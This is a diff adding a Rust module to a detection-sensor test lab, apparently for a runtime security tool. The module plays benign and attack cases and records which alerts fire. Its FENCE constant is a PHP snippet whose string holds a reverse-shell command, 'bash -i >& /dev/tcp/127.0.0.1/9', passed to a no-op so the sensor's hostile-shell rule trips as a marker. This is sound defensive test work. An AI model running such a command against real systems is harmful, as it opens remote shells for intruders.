@@ -1,0 +1,255 @@
+//! One run of the sensor: cases are played before it, all it takes in is recorded.
+
+use std::{
+    panic::{AssertUnwindSafe, catch_unwind},
+    path::{Path, PathBuf},
+    rc::Rc,
+};
+
+use super::{
+    case::{Attack, Benign, Claim, Expected, Order, Row},
+    stacks::{Stack, Stacks},
+    turn::Turn,
+};
+use crate::fixture::{
+    alert::Alert,
+    scene::Scene,
+    sensor::Sensor,
+    site::Site,
+    wait::{self, PATIENCE},
+};
+
+/// A page whose alert is the fence. No profile can learn it.
+pub(crate) const FENCE: (&str, &str) = (
+    "lab-fence.php",
+    "system(\": 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1' fence-\" . (int) $_GET['n'] . '-');",
+);
+const FENCE_RULE: &str = "hostile_shell_command";
+
+/// A sensor that records, and the fence beside it.
+pub(crate) struct Round {
+    sensor: Sensor,
+    fence: Rc<Site>,
+    name: &'static str,
+    order: Order,
+    pub(crate) recording: PathBuf,
+    /// Alerts before this one are accounted for.
+    mark: usize,
+    fences: usize,
+}
+
+impl Round {
+    /// Starts the sensor with these lines in its configuration.
+    pub(crate) fn begin(
+        scene: &Scene,
+        fence: &Rc<Site>,
+        (name, order): (&'static str, Order),
+        lines: &str,
+    ) -> Self {
+        let recording = scene.path().join(format!("{name}-{order:?}.rec"));
+        Self {
+            sensor: Sensor::configured(lines, &recording),
+            fence: Rc::clone(fence),
+            name,
+            order,
+            recording,
+            mark: 0,
+            fences: 0,
+        }
+    }
+
+    pub(crate) const fn order(&self) -> Order {
+        self.order
+    }
+
+    fn turn<'t>(&self, stacks: &'t Stacks, stack: Stack, number: usize) -> Turn<'t> {
+        let order = match self.order {
+            Order::Before => 'b',
+            Order::After => 'a',
+        };
+        let name = self.name;
+        Turn {
+            stacks,
+            order: self.order,
+            stack,
+            mark: format!("{name}{number:03}{order}"),
+        }
+    }
+
+    /// Alerts since the last fence, up to one that is put here; fences left out.
+    fn since_fence(&mut self) -> Vec<Alert> {
+        self.fences += 1;
+        let word = format!("fence-{}-", self.fences);
+        self.fence.visit(&format!("{}?n={}", FENCE.0, self.fences));
+        self.sensor.alert(FENCE_RULE, |alert| {
+            alert.args().iter().any(|arg| arg.contains(&word))
+        });
+        let read = self.sensor.mark();
+        let new = self.sensor.alerts[self.mark..read].iter();
+        let new = new.filter(|alert| !is_fence(alert)).cloned().collect();
+        self.mark = read;
+        new
+    }
+
+    /// Whatever has alerted so far is nobody's case: servers that started, for instance.
+    /// `None` when nothing has.
+    pub(crate) fn start_is_silent(&mut self) -> Option<String> {
+        let alerts = self.since_fence();
+        (!alerts.is_empty()).then(|| listed(&alerts))
+    }
+
+    /// Plays ordinary work, each case up to a fence of its own.
+    pub(crate) fn work(&mut self, stacks: &Stacks, cases: &[(usize, &Benign)]) -> Vec<Row> {
+        let mut rows = Vec::new();
+        for (number, case) in cases {
+            let stack = case.needs.first().copied().unwrap_or(Stack::Php);
+            let turn = self.turn(stacks, stack, *number);
+            let played = played(|| (case.act)(&turn));
+            let alerts = self.since_fence();
+            rows.push(Row {
+                id: case.id,
+                stack: case.stack.to_owned(),
+                order: Some(self.order),
+                what: case.what.to_owned(),
+                expected: Expected::Silence,
+                wanted: case.product.map_or_else(
+                    || "silence".to_owned(),
+                    |product| format!("silence (profile {product})"),
+                ),
+                fired: rules(alerts.iter()),
+                root: roots(alerts.iter()),
+                alerts: Vec::new(),
+                failure: match played {
+                    Err(why) => Some(why),
+                    Ok(()) => (!alerts.is_empty()).then(|| listed(&alerts)),
+                },
+            });
+        }
+        rows
+    }
+
+    /// Plays attacks one after another, then waits until each has been told of.
+    pub(crate) fn attack(&mut self, stacks: &Stacks, cases: &[(usize, &Attack)]) -> Vec<Row> {
+        let mut open = Vec::new();
+        for (number, case) in cases {
+            let root = stacks.root(case.stack);
+            let turn = self.turn(stacks, case.stack, *number);
+            let claim = played(|| (case.act)(&turn));
+            open.push((*case, root, claim));
+        }
+        let told = |sensor: &Sensor, (case, _, claim): &(&Attack, u32, Played)| {
+            let mut alerts = sensor.alerts.iter();
+            let Ok(claim) = claim else { return true };
+            alerts.any(|alert| alert.rule() == case.rule && claim.holds(alert, case.rule))
+        };
+        // What is missing after that long is a row of the table, not the end of the lab.
+        let _all = wait::poll(PATIENCE, || {
+            self.sensor.mark();
+            open.iter().all(|one| told(&self.sensor, one)).then_some(())
+        });
+        self.since_fence();
+        let alerts = &self.sensor.alerts;
+        open.into_iter()
+            .map(|(case, root, claim)| judged(case, root, claim, self.order, alerts))
+            .collect()
+    }
+
+    /// Ends the sensor as it should end; the recording.
+    pub(crate) fn finish(self) -> PathBuf {
+        self.sensor.stop();
+        self.recording
+    }
+
+    /// Likewise; what it said last is given back.
+    pub(crate) fn end(mut self) -> (PathBuf, Option<String>) {
+        let alerts = self.since_fence();
+        let mark = self.mark;
+        let all = self.sensor.stop();
+        let late = all.into_iter().skip(mark).filter(|alert| !is_fence(alert));
+        let late: Vec<Alert> = alerts.into_iter().chain(late).collect();
+        (self.recording, (!late.is_empty()).then(|| listed(&late)))
+    }
+}
+
+/// A claim, or why the case could not be played.
+type Played = Result<Claim, String>;
+
+/// Plays a case; one that cannot be played fails alone.
+fn played<T>(act: impl FnOnce() -> T) -> Result<T, String> {
+    catch_unwind(AssertUnwindSafe(act)).map_err(|panic| {
+        let said = panic.downcast_ref::<String>().map(String::as_str);
+        let said = said.or_else(|| panic.downcast_ref::<&str>().copied());
+        format!("could not be played: {}", said.unwrap_or("a panic"))
+    })
+}
+
+/// What became of an attack.
+fn judged(case: &Attack, root: u32, claim: Played, order: Order, alerts: &[Alert]) -> Row {
+    let holds = |alert: &&Alert| claim.as_ref().is_ok_and(|it| it.holds(alert, case.rule));
+    let own: Vec<&Alert> = alerts.iter().filter(holds).collect();
+    let wrong = own.iter().find(|alert| alert.root() != root);
+    let failure = if let Err(why) = &claim {
+        Some(why.clone())
+    } else if own.is_empty() {
+        Some("no alert".to_owned())
+    } else if !own.iter().any(|alert| alert.rule() == case.rule) {
+        Some(format!("{} did not fire", case.rule))
+    } else {
+        wrong.map(|alert| format!("the root is {root}, not that of {alert}"))
+    };
+    let own = || own.iter().copied();
+    Row {
+        id: case.id,
+        stack: case.stack.name().to_owned(),
+        order: Some(order),
+        what: case.what.clone(),
+        expected: Expected::Alert,
+        wanted: case.rule.to_owned(),
+        fired: rules(own()),
+        root: roots(own()),
+        alerts: own()
+            .map(|alert| alert.json["event"]["id"].as_str().unwrap_or("").to_owned())
+            .collect(),
+        failure,
+    }
+}
+
+pub(crate) fn is_fence(alert: &Alert) -> bool {
+    let lineage = alert.lineage();
+    let mut args = lineage.iter().flat_map(|relative| relative.args());
+    args.any(|arg| arg.contains(" fence-"))
+}
+
+/// Each rule once, the highest level first.
+fn rules<'a>(alerts: impl Iterator<Item = &'a Alert>) -> Vec<(String, String)> {
+    let rank = |level: &str| {
+        ["critical", "high", "medium"]
+            .iter()
+            .position(|it| *it == level)
+    };
+    let mut found: Vec<(String, String)> = alerts
+        .map(|alert| (alert.rule().to_owned(), alert.level().to_owned()))
+        .collect();
+    found.sort_by_key(|(rule, level)| (rank(level), rule.clone()));
+    found.dedup();
+    found
+}
+
+/// The first process of each lineage, each once.
+fn roots<'a>(alerts: impl Iterator<Item = &'a Alert>) -> String {
+    let mut found: Vec<String> = alerts
+        .filter_map(|alert| {
+            let root = *alert.lineage().first()?;
+            let name = Path::new(root.executable()).file_name()?.to_string_lossy();
+            Some(format!("{name} {}", root.pid()))
+        })
+        .collect();
+    found.sort();
+    found.dedup();
+    found.join(", ")
+}
+
+fn listed(alerts: &[Alert]) -> String {
+    let alerts: Vec<String> = alerts.iter().map(ToString::to_string).collect();
+    alerts.join("\n")
+}
